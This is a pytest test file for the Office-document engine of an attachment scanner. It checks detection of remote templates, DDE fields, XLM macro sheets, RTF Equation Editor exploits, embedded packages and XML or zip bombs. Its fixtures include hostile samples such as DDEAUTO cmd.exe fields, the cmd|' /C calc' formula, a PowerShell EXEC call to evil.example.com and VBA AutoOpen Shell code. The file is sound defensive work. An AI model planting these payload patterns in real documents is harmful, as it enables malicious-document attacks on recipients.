"""Documents without macros: what they load, link, start and pack, in each format."""

import base64
import struct
import time
import zlib

import pytest

from mailock.core.evidence.filetype import Family
from mailock.core.evidence.finding import Confidence, Severity
from mailock.core.evidence.report import Why
from mailock.engines.office.engine import Office
from tests.parts.compound import compound, vba
from tests.parts.documents import docx, relations, zipped
from tests.parts.looking import IDENTIFIER
from tests.parts.said import Said, look

ENGINE = Office()
BAD = Severity.MALICIOUS
WIDE = "http://evil.example.com/x".encode("utf-16-le")


def word(body: str = "", **extra: str) -> Said:
    """What is said of a Word document."""
    return look(ENGINE, docx(body, {name.replace("__", "/"): text for name, text in extra.items()}), Family.OOXML)


def related(kind: str, target: str, *, outside: bool = True) -> Said:
    """What is said of a document with one relationship."""
    return word(**{"word__settings.xml.rels": relations((kind, target, outside))})


def fields(*codes: str) -> str:
    """A paragraph with a field of these pieces."""
    pieces = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def test_an_ordinary_document_has_nothing_but_its_links() -> None:
    said = word(
        "<w:p><w:r><w:t>Dear customer</w:t></w:r></w:p>" + fields(' HYPERLINK "https://shop.example.com/" '),
        **{
            "word__document.xml.rels": relations(
                ("hyperlink", "https://shop.example.com/a", True), ("image", "media/a.png", False)
            )
        },
    )
    assert said.kinds == {"office.link"}
    assert sorted(said.urls) == ["https://shop.example.com/", "https://shop.example.com/a"]
    assert said.unfinished is None


@pytest.mark.parametrize(
    ("kind", "target", "finding", "level"),
    [
        (
            "attachedTemplate",
            "https://evil.example.com/t.dotm",
            "office.remote_template",
            (Severity.SUSPICIOUS, Confidence.HIGH),
        ),
        (
            "attachedTemplate",
            "\\\\192.0.2.1\\s\\t.dotm",
            "office.remote_template",
            (Severity.SUSPICIOUS, Confidence.HIGH),
        ),
        ("oleObject", "https://evil.example.com/o", "office.linked_object", (Severity.SUSPICIOUS, Confidence.HIGH)),
        (
            "oleObject",
            "mhtml:https://evil.example.com/a.html!x-usc:https://evil.example.com/a.html",
            "office.exploit",
            (BAD, Confidence.HIGH),
        ),
        ("oleObject", "https://evil.example.com/RDF842l.html!", "office.exploit", (BAD, Confidence.HIGH)),
        ("frame", "https://evil.example.com/f", "office.remote", (Severity.SUSPICIOUS, Confidence.HIGH)),
        ("image", "https://evil.example.com/i.png", "office.remote", (Severity.NOTE, Confidence.LOW)),
        ("image", "file://192.0.2.1/s/i.png", "office.remote", (Severity.SUSPICIOUS, Confidence.MEDIUM)),
    ],
)
def test_what_is_loaded_from_elsewhere_is_told(
    kind: str, target: str, finding: str, level: tuple[Severity, Confidence]
) -> None:
    said = related(kind, target)
    assert said.worst(finding) == level
    assert any("192.0.2.1" in url or "evil.example.com" in url for url in said.urls)


def test_a_template_of_ones_own_machine_is_none_from_elsewhere() -> None:
    assert related("attachedTemplate", "file:///C:\\Templates\\Normal.dotm").kinds == set()
    assert related("attachedTemplate", "Normal.dotm").kinds == set()


def test_relationships_in_wide_letters_are_read() -> None:
    wide = relations(("attachedTemplate", "https://evil.example.com/t", True)).replace(
        '"1.0"', '"1.0" encoding="utf-16"'
    )
    said = look(ENGINE, docx(extra={"word/_rels/settings.xml.rels": wide.encode("utf-16")}), Family.OOXML)
    assert "office.remote_template" in said.kinds


@pytest.mark.parametrize(
    "body",
    [
        fields('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
        fields("DD", "EAU", "TO c:\\\\Programs\\\\x\\\\..\\\\cmd", '.exe "/c x"'),
        fields(" dde ", "cmd /c calc"),
        '<w:fldSimple w:instr=\' DDEAUTO "cmd" "/c calc" \'/>',
        fields("QUOTE 68 68 69 65 85 84 79 32 99 109 100 32 47 99"),
    ],
)
def test_a_field_that_starts_a_program_is_malicious(body: str) -> None:
    assert word(body).worst("office.dde") == (BAD, Confidence.HIGH)


def test_the_word_dde_in_prose_is_no_field() -> None:
    assert word("<w:p><w:r><w:t>DDEAUTO cmd.exe is what attackers write</w:t></w:r></w:p>").kinds == set()


def test_excel_links_formulas_and_queries() -> None:
    sheet = "<worksheet><sheetData><c><f>cmd|' /C calc'!A0</f></c></sheetData></worksheet>"
    assert look(ENGINE, zipped({"xl/worksheets/sheet1.xml": sheet}), Family.OOXML).worst("office.dde")[0] is BAD
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert look(ENGINE, zipped({"xl/externalLinks/a.xml": link}), Family.OOXML).worst("office.dde")[0] is BAD
    web = '<connections><connection><webPr url="http://evil.example.com/q"/></connection></connections>'
    said = look(ENGINE, zipped({"xl/connections.xml": web}), Family.OOXML)
    assert "office.query" in said.kinds
    assert "http://evil.example.com/q" in said.urls
    plain = "<worksheet><c><f>SUM(A1:A9)</f></c><c><f>IF(A1&gt;1,B1,C1)</f></c></worksheet>"
    assert look(ENGINE, zipped({"xl/worksheets/sheet1.xml": plain}), Family.OOXML).kinds == set()


def test_macro_sheets_of_the_new_format() -> None:
    sheet = '<xm:macrosheet xmlns:xm="x"><c><f>EXEC("powershell http://evil.example.com/")</f></c></xm:macrosheet>'
    said = look(ENGINE, zipped({"xl/macrosheets/sheet1.xml": sheet}), Family.OOXML)
    assert said.worst("office.xlm") == (Severity.SUSPICIOUS, Confidence.HIGH)
    assert "http://evil.example.com/" in said.urls
    name = '<workbook><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></workbook>'
    assert "office.xlm" in look(ENGINE, zipped({"xl/workbook.xml": name}), Family.OOXML).kinds


def _record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


@pytest.mark.parametrize(
    ("state", "automatic", "level"),
    [
        (2, True, (BAD, Confidence.HIGH)),
        (1, False, (BAD, Confidence.MEDIUM)),
        (0, False, (Severity.SUSPICIOUS, Confidence.HIGH)),
    ],
)
def test_macro_sheets_of_old_workbooks(state: int, automatic: bool, level: tuple[Severity, Confidence]) -> None:
    name = b"\x06\x00Macro1"
    globals_ = _record(0x809, struct.pack("<HH", 0x600, 5) + bytes(12))
    globals_ += _record(0x85, struct.pack("<IBB", 0, state, 1) + name)
    if automatic:
        globals_ += _record(0x18, struct.pack("<HBBHHH", 0x20, 0, 1, 0, 0, 0) + bytes(4) + b"\x00\x01")
    tokens = b"\x17\x04\x00calc" + b"\x42\x01\x6e\x00"
    cell = bytes(20) + struct.pack("<H", len(tokens)) + tokens
    sheet = _record(0x809, struct.pack("<HH", 0x600, 0x40) + bytes(12)) + _record(0x06, cell)
    said = look(ENGINE, compound({"Workbook": globals_ + sheet}), Family.OLE)
    assert said.worst("office.xlm") == level


def test_old_word_fields_are_read_in_both_widths() -> None:
    for text in (b"\x13 DDEAUTO cmd.exe /c calc \x14", "\x13 DDEAUTO cmd.exe /c calc \x14".encode("utf-16-le")):
        said = look(ENGINE, compound({"WordDocument": bytes(512) + text}), Family.OLE)
        assert said.worst("office.dde")[0] is BAD


def test_a_password_is_told_and_nothing_else() -> None:
    said = look(ENGINE, compound({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}), Family.OLE)
    assert said.kinds == {"office.encrypted"}
    assert said.unfinished is None


def rtf(data: bytes, name: bytes = b"x", noise: bytes = b"") -> bytes:
    """An RTF document with an OLE 1 object."""
    native = (
        struct.pack("<III", 0x501, 2, len(name) + 1) + name + b"\0" + bytes(8) + struct.pack("<I", len(data)) + data
    )
    digits = native.hex().encode()
    half = len(digits) // 2
    return b"{\\rtf1{\\object\\objemb{\\*\\objdata " + digits[:half] + noise + b"\r\n" + digits[half:] + b"}}}"


EQUATION = b"\x1c\x00" + bytes(26) + b"\x03\x01\x01\x03\x0a" + b"\x08\x5a\x5a" + b"A" * 60 + b"\0"


@pytest.mark.parametrize("name", [b"Equation.3", b"eQuATiON.3"])
def test_equations_in_rtf_are_malicious(name: bytes) -> None:
    assert look(ENGINE, rtf(b"\x1c\x00" + bytes(60), name), Family.RTF).worst("office.equation") == (
        BAD,
        Confidence.MEDIUM,
    )
    assert look(ENGINE, rtf(EQUATION, name), Family.RTF).worst("office.exploit") == (BAD, Confidence.HIGH)


@pytest.mark.parametrize(
    "noise", [b"{\\*\\foo 00}" * 30, b"\\par \\b0 " * 30, b"\\'41\\'42", b"{\\object}", b"\\bin0 ", b"\n \t"]
)
def test_noise_among_the_digits_hides_nothing(noise: bytes) -> None:
    assert look(ENGINE, rtf(EQUATION, b"Equation.3", noise), Family.RTF).worst("office.exploit")[0] is BAD


def test_packages_of_rtf_are_taken_out() -> None:
    content = b"WScript.Echo 1"
    package = (
        b"\x02\x00a.vbs\0C:\\a.vbs\0\0\0\3\0"
        + struct.pack("<I", 8)
        + b"C:\\a.vb\0"
        + struct.pack("<I", len(content))
        + content
    )
    said = look(ENGINE, rtf(package, b"Package"), Family.RTF)
    assert [(child.untrusted_name, child.content) for child in said.children] == [("a.vbs", content)]


def test_links_and_templates_of_rtf() -> None:
    said = look(ENGINE, rtf(b"\xe0\xc9\xea\x79" + WIDE, b"OLE2Link"), Family.RTF)
    assert said.worst("office.linked_object") == (BAD, Confidence.HIGH)
    assert "http://evil.example.com/x" in said.urls
    template = look(ENGINE, b"{\\rtf1{\\*\\template http://evil.example.com/t}}", Family.RTF)
    assert template.worst("office.remote_template") == (Severity.SUSPICIOUS, Confidence.HIGH)
    hexed = look(ENGINE, b"{\\rtf1{\\*\\template \\'68\\'74\\'74\\'70://evil.example.com/t}}", Family.RTF)
    assert "office.remote_template" in hexed.kinds
    field = look(
        ENGINE, b'{\\rtf1{\\field{\\*\\fldinst {HYPER}{LINK "http://a.example.com/"}}{\\fldrslt x}}}', Family.RTF
    )
    assert field.urls == ["http://a.example.com/"]


def test_an_ordinary_rtf_has_nothing() -> None:
    text = b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}{\\*\\generator Riched20;}\\f0 Dear {\\b you}, \\'e9{\\pict 8950}}"
    said = look(ENGINE, text, Family.RTF)
    assert not said.findings
    assert said.unfinished is None


def odt(**parts: str) -> Said:
    """What is said of an OpenDocument file."""
    return look(ENGINE, zipped({name.replace("__", "/"): text for name, text in parts.items()}), Family.ODF)


def test_opendocument_scripts_events_and_links() -> None:
    module = '<!DOCTYPE m><script:module xmlns:script="s">Sub Main\n Shell("cmd /c calc")\nEnd Sub</script:module>'
    event = '<x xmlns:s="s" xmlns:l="l"><s:event-listener s:event-name="dom:load" l:href="vnd.sun.star.script:a"/></x>'
    said = odt(**{"Basic__Standard__M.xml": module, "content.xml": event})
    assert said.worst("office.macro")[0] is BAD
    assert "office.event" in said.kinds
    linked = odt(
        **{"content.xml": '<x xmlns:d="d" xmlns:xlink="l"><d:object xlink:href="https://evil.example.com/o"/></x>'}
    )
    assert linked.worst("office.linked_object")[0] is Severity.SUSPICIOUS
    dde = odt(**{"content.xml": '<x xmlns:o="o"><o:dde-source o:dde-application="cmd" o:dde-topic="/c calc"/></x>'})
    assert dde.worst("office.dde")[0] is BAD
    assert odt(**{"content.xml": '<x xmlns:l="l"><a l:href="https://a.example.com/"/><p>text</p></x>'}).kinds == {
        "office.link"
    }


def test_texts_that_excel_opens() -> None:
    sylk = b'ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER1C1;KOut Flank;F\r\nC;X1;Y1;K0;EEXEC("calc.exe")\r\nE\r\n'
    assert look(ENGINE, sylk, Family.SCRIPT).worst("office.xlm") == (BAD, Confidence.HIGH)
    cells = b"a,b\r\n=cmd|' /C calc'!A0,1\r\n"
    assert look(ENGINE, cells, name="a.csv").worst("office.dde")[0] is BAD
    assert look(ENGINE, cells).kinds == set()  # a text about it
    query = b"WEB\r\n1\r\nhttp://evil.example.com/q\r\n"
    assert "office.query" in look(ENGINE, query, Family.SCRIPT).kinds
    assert look(
        ENGINE, b'a | b | c\r\n-1 | 2! | x\r\n=== hi ===\r\n- yes|no!\r\n=A1&"aa|bb"&B!C1', name="a.csv"
    ).kinds <= {"office.dde"}


def test_documents_in_one_text() -> None:
    project = vba({"A": 'Sub AutoOpen()\r\nShell "cmd /c x"\r\nEnd Sub'})
    envelope = b"ActiveMime" + bytes(40) + zlib.compress(project)
    text = '<?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
    text += f"<w:binData w:name='editdata.mso'>{base64.b64encode(envelope).decode()}</w:binData></w:wordDocument>"
    assert look(ENGINE, text.encode(), Family.XML).worst("office.macro")[0] is BAD
    assert look(ENGINE, b"<rss><item>hi</item></rss>", Family.XML).kinds == set()


def test_what_flat_documents_pack_is_handed_on_whatever_it_is() -> None:
    packed = base64.b64encode(b"MZ a program").decode()
    odf = (
        '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
        f"<office:binary-data>{packed}</office:binary-data></office:document>"
    )
    package = (
        '<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
        f'<pkg:part pkg:name="/a.bin"><pkg:binaryData>{packed}</pkg:binaryData></pkg:part></pkg:package>'
    )
    for text in (odf, package):
        assert [child.content for child in look(ENGINE, text.encode(), Family.XML).children] == [b"MZ a program"]


def test_macros_beside_a_page_in_one_file() -> None:
    project = vba({"A": 'Sub AutoOpen()\r\nShell "cmd /c x"\r\nEnd Sub'})
    envelope = b"ActiveMime" + bytes(40) + zlib.compress(project)
    kind = IDENTIFIER.identify(envelope, ["editdata.mso"], ["application/x-mso"])
    assert (kind.family, kind.untrusted_mismatch) == (Family.OLE, "")
    assert look(ENGINE, envelope, kind.family).worst("office.macro")[0] is BAD
    broken = look(ENGINE, b"ActiveMime" + bytes(100), kind.family)
    assert broken.unfinished is not None
    assert broken.unfinished.why is Why.UNREADABLE


def test_entities_are_told_and_never_followed() -> None:
    laughs = (
        '<!DOCTYPE x [<!ENTITY a "ha">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
        + "]><w:document xmlns:w='w'>&m;</w:document>"
    )
    began = time.process_time()
    said = look(ENGINE, zipped({"word/document.xml": laughs}), Family.OOXML)
    assert time.process_time() - began < 5
    assert "office.declares_entities" in said.kinds


def test_bombs_end_within_the_budget_and_are_said_to_be_cut() -> None:
    began = time.process_time()
    bomb = zipped({"word/document.xml": b"<x>" + b" " * (100 << 20)})
    said = look(ENGINE, bomb, Family.OOXML)
    assert said.unfinished is not None
    assert said.unfinished.why is Why.TOO_COSTLY
    many = look(ENGINE, zipped({f"word/{number}.xml": "<x/>" for number in range(11_000)}), Family.OOXML)
    assert many.unfinished is not None
    assert many.unfinished.why is Why.TOO_MANY
    assert time.process_time() - began < 30


@pytest.mark.parametrize(
    "piece", [b"{", b"{\\a", b"\\a", b"\\'41", b"{\\*\\objdata 41}", b"{\\object", b"\\bin99999999 "]
)
def test_rtf_without_end(piece: bytes) -> None:
    began = time.process_time()
    look(ENGINE, b"{\\rtf1" + piece * (1_000_000 // len(piece)), Family.RTF)
    assert time.process_time() - began < 15


@pytest.mark.parametrize("family", [Family.OOXML, Family.ODF, Family.OLE, Family.RTF, Family.XML])
def test_what_is_none_of_these_is_unreadable_or_empty(family: Family) -> None:
    for content in (b"", b"x", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), bytes(3000)):
        said = look(ENGINE, content, family)
        assert {finding.severity for finding in said.findings} <= {Severity.SUSPICIOUS}
